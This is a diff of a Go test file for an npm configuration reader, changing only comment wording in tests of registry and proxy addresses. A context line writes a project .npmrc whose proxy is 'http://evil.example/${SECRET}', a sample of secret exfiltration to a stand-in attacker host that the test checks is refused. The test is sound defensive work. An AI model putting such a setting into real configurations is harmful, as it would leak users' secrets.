@@ -9,7 +9,7 @@ import (
 	"testing"
 )
 
-// What a project's files say is what whoever wrote the project says.
+// Files of a project are under the control of its author.
 
 func TestVariablesInTheAddressesOfAProject(t *testing.T) {
 	tests := []struct {
@@ -48,7 +48,7 @@ func TestVariablesInTheAddressesOfAProject(t *testing.T) {
 					t.Errorf("is %s", r.URL)
 				}
 				if file == ".npmrc" && strings.HasPrefix(test.registry, "https://evil") {
-					// The user's own file may say what it likes.
+					// The user's own file is not restricted.
 					write(t, w.home, map[string]string{".npmrc": "registry=" + test.registry})
 					if r, err := w.read(t, false).RegistryFor("coins"); err != nil || r == nil {
 						t.Errorf("of the user it is %v, %v", r, err)
@@ -57,7 +57,7 @@ func TestVariablesInTheAddressesOfAProject(t *testing.T) {
 			})
 		}
 	}
-	// A proxy is an address, too; one that is refused is none.
+	// A proxy is an address too; a refused one is not used.
 	w := newWorld(t, "SECRET=s3cret")
 	write(t, w.project, map[string]string{"package.json": "{}", ".npmrc": "registry=https://r.example\nproxy=http://evil.example/${SECRET}"})
 	c := w.read(t, true)
@@ -135,7 +135,7 @@ func TestWhichFilesNpmReads(t *testing.T) {
 		}
 		os.Remove(filepath.Join(root, tool))
 	}
-	// A project that is the home directory has the user's file, not its own.
+	// If the project is the home directory, its .npmrc is the user's.
 	w.project, w.env = w.home, w.env[:1]
 	write(t, w.home, map[string]string{"package.json": "{}"})
 	if r, err := w.read(t, true).RegistryFor("@home/x"); err != nil || r.project {
